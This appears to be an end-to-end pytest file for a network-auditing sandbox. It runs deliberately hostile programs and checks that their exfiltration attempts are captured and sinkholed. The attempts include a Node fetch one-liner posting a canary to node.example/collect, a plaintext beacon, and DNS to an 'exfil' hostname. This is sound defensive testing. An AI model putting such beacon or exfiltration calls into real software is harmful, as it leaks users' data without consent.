"""Full capture with hostile programs: each way of getting data out is recorded with its destination
name and payload, and nothing reaches anything outside the machine.

One audit (two scenarios) runs in a real tun sandbox for the whole module; each test checks one
program's traffic in it.
"""

import http.server
import json
import shutil
import ssl
import sys
import threading
from pathlib import Path

import pytest

from auditor import analysis, flowstore, pipeline, runner, scenario
from auditor.identity import read_real
from auditor.sandbox import get_backend, tun

pytestmark = [pytest.mark.e2e,
              pytest.mark.skipif(tun.unavailable() is not None,
                                 reason=f"full capture unavailable here: {tun.unavailable()}")]
HOSTILE = Path(__file__).resolve().parents[1] / "sandbox" / "hostile.py"
NODE = shutil.which("node")
FETCH = ("fetch('https://node.example/collect', {method: 'POST', body: 'NODE-CANARY=fetch'})"
         ".then(r => r.text()).then(console.log, e => { console.error(e); process.exit(1) })")


class Upstream(http.server.BaseHTTPRequestHandler):
    """The one allowed host, on the host's loopback: what reaches it was forwarded."""
    paths: list[str] = []

    def do_GET(self):
        Upstream.paths.append(self.path)
        body = b"real-upstream"
        self.send_response(200)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def step(name: str, run: str, expect_exit=0) -> str:
    return f"  - name: {name}\n    run: {json.dumps(run)}\n    timeout: 60\n    expect_exit: {expect_exit}\n"


@pytest.fixture(scope="module")
def audit(tmp_path_factory):
    d = tmp_path_factory.mktemp("tun")
    shutil.copy(HOSTILE, d / "hostile.py")
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Upstream)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    py = f'"{sys.executable}" "$SCENARIO_DIR/hostile.py"'
    paths = ssl.get_default_verify_paths()  # the system's CAs, not the audit's: the pinning client's list
    system_cas = next(p for p in (paths.cafile, paths.openssl_cafile, "/etc/ssl/certs/ca-certificates.crt")
                      if p and Path(p).is_file())
    steps = [step(m, f"{py} {m}") for m in ("identity", "tls-socket", "beacon", "udp", "h3", "ipv6",
                                             "dns-hard-coded", "pinned", "opaque")]
    steps[7] = step("pinned", f'{py} pinned "{system_cas}"')
    steps.append(step("forward", f"{py} forward {port}"))
    if NODE:
        steps.append(step("node-fetch", f"node -e {json.dumps(FETCH)}"))
    (d / "hostile.yaml").write_text("schema_version: 1\nname: hostile\nvariants: [unset]\n"
                                    "network: {allow: [localhost]}\nsteps:\n" + "".join(steps))
    careless = [step("careless", f"{py} careless")]
    if NODE:  # verifies certificates: refuses the audit CA and must not count as SEC-002
        careless.append(step("node-fetch", f"node -e {json.dumps(FETCH)}", expect_exit="any"))
    (d / "careless.yaml").write_text("schema_version: 1\nname: careless\nvariants: [untrusted-ca]\nsteps:\n"
                                     + "".join(careless))
    ident = pipeline.new_identity(5)
    plans = pipeline.plan([scenario.load(d / "hostile.yaml"), scenario.load(d / "careless.yaml")], (), ident)
    linger, runner.LINGER = runner.LINGER, 0.5
    try:
        dirs = pipeline.execute(plans, get_backend("tun"), d / "out")
    finally:
        runner.LINGER = linger
        server.shutdown()
    result = analysis.analyze_run_dirs(dirs)
    run_dir = d / "out" / "runs" / "hostile" / "unset"
    exchanges = list(flowstore.read_mitm(run_dir / "flows.mitm"))
    events = [json.loads(l) for l in (run_dir / "events.jsonl").read_text().splitlines()]
    output = [json.loads(l) for l in (run_dir / "output.jsonl").read_text().splitlines()]
    return {"audit": result, "ident": ident, "dir": run_dir, "exchanges": exchanges, "events": events,
            "output": output, "upstream": list(Upstream.paths)}


def sent(ex) -> bytes:
    return ex.request_body + b"".join(m.content for m in ex.messages if m.from_client)


def stdout(audit, step_name):
    return [o["text"] for o in audit["output"] if o["step"] == step_name and o["stream"] == "stdout"]


def test_every_run_completed_in_tun_mode(audit):
    a = audit["audit"]
    assert a.complete, a.problems
    assert {r.capture for r in a.runs} == {"tun"}
    assert all(r.coverage == ("tcp", "udp", "dns", "http") for r in a.runs)


@pytest.mark.parametrize("host, payload", [
    ("tls-socket.example", b"TLS-SOCKET-CANARY user="),  # resolves the name itself, TLS to 443
    ("beacon.example", b"BEACON id=42 host="),  # raw plaintext TCP
    ("udp.example", b"UDP-CANARY seq=1"),  # a UDP datagram
    ("h3.example", b"H3-CANARY over QUIC"),  # HTTP/3, decrypted
    ("v6.example", b"V6-CANARY over IPv6"),  # an IPv6 address literal (TLS SNI names it)
    pytest.param("node.example", b"NODE-CANARY=fetch",  # Node 20 fetch: ignores every proxy variable
                 marks=pytest.mark.skipif(not NODE, reason="node not installed")),
])
def test_hostile_program_is_recorded_with_name_and_payload(audit, host, payload):
    mine = [ex for ex in audit["exchanges"] if ex.host == host and ex.kind != "dns"]
    assert mine, f"nothing recorded for {host}"
    assert any(payload in sent(ex) for ex in mine)
    assert all(ex.action == "sinkhole" for ex in mine)


def test_http3_was_decrypted(audit):
    [ex] = [ex for ex in audit["exchanges"] if ex.host == "h3.example" and ex.kind == "http"]
    assert (ex.method, ex.path, ex.tls) == ("POST", "/h3-collect", True)
    assert stdout(audit, "h3") == ["status 200"]


def test_dns_to_a_hard_coded_resolver_is_answered_and_recorded(audit):
    [answer] = stdout(audit, "dns-hard-coded")
    assert answer.startswith("198.1")  # a synthetic address from 198.18.0.0/15
    q = [ex for ex in audit["exchanges"] if ex.kind == "dns" and ex.host == "exfil-4242.dns.example"]
    assert q and q[0].request_body
    mapped = {e["name"]: e["address"] for e in audit["events"] if e["event"] == "dns-synthetic"}
    assert mapped["exfil-4242.dns.example"] == answer


def test_connections_are_attributed_to_the_names_the_program_resolved(audit):
    mapped = {e["name"]: e["address"] for e in audit["events"] if e["event"] == "dns-synthetic"}
    [beacon] = [ex for ex in audit["exchanges"] if ex.host == "beacon.example" and ex.kind == "tcp"]
    assert beacon.meta["egress.destination"] == [mapped["beacon.example"], 7000]


def test_allowed_host_is_forwarded_by_name_only(audit):
    assert stdout(audit, "forward") == ["by-name: real-upstream", "by-address: {}"]
    # The request to an address the program chose never left (a retried 502 may repeat /allowed).
    assert audit["upstream"] and set(audit["upstream"]) == {"/allowed"}
    upstream = [e for e in audit["events"] if e["event"] == "upstream"]
    assert {e["host"] for e in upstream} == {"localhost"} and upstream[0]["address"].startswith("198.1")


def test_nothing_else_left_the_sandbox(audit):
    allowed = {"localhost"}
    assert {e["host"] for e in audit["events"] if e["event"] == "upstream"} <= allowed
    assert all(ex.action == "sinkhole" for ex in audit["exchanges"] if ex.host not in allowed)
    sinkholed = {e["host"] for e in audit["events"] if e["event"] == "sinkhole"}
    assert {"beacon.example", "udp.example", "vault.example"} <= sinkholed


def test_refused_ca_and_opaque_payloads_are_sec_004(audit):
    sec004 = {f.host: f.detail for f in audit["audit"].findings if f.rule == "SEC-004"}
    assert "pinned.example" in sec004 and "not inspected" in sec004["pinned.example"]
    assert "vault.example" in sec004 and "opaque binary" in sec004["vault.example"]
    assert stdout(audit, "pinned")[0].startswith("refused the audit CA")


def test_plaintext_beacon_is_sec_001(audit):
    assert "beacon.example" in {f.host for f in audit["audit"].findings if f.rule == "SEC-001"}


def test_untrusted_ca_variant_finds_the_careless_client_only(audit):
    sec002 = {f.host for f in audit["audit"].findings if f.rule == "SEC-002" and f.scenario == "careless"}
    assert sec002 == {"careless.example"}


def test_the_sandbox_plants_the_canary_identity_and_hides_the_host(audit):
    [line] = stdout(audit, "identity")
    seen = json.loads(line)
    assert seen["hostname"] == audit["ident"].hostname
    assert seen["machine_id"] != read_real().get("real_machine_id") and len(seen["machine_id"]) == 32
    # The TUN device (the only route), the canary MAC's route-less eth0, loopback: no host interface.
    capture, *rest = seen["interfaces"]
    assert capture.startswith(tun.DEVICE_PREFIX) and rest == ["eth0", "lo"]
    assert audit["ident"].mac


def test_pcap_holds_the_packets_as_ground_truth(audit):
    data = (audit["dir"] / "capture.pcap").read_bytes()
    assert data[:4] in (b"\xd4\xc3\xb2\xa1", b"\xa1\xb2\xc3\xd4")
    assert b"UDP-CANARY seq=1" in data and b"BEACON id=42" in data


def test_the_fast_reader_reads_every_capture_as_mitmproxy_does(audit):
    """Real TCP, UDP, DNS, QUIC and HTTP flows, read both ways."""
    from ..test_mitmfile import same_as_mitmproxy

    runs = list(audit["dir"].parent.parent.rglob("flows.mitm"))
    assert len(runs) == 2 and sum(same_as_mitmproxy(p) for p in runs) > 10
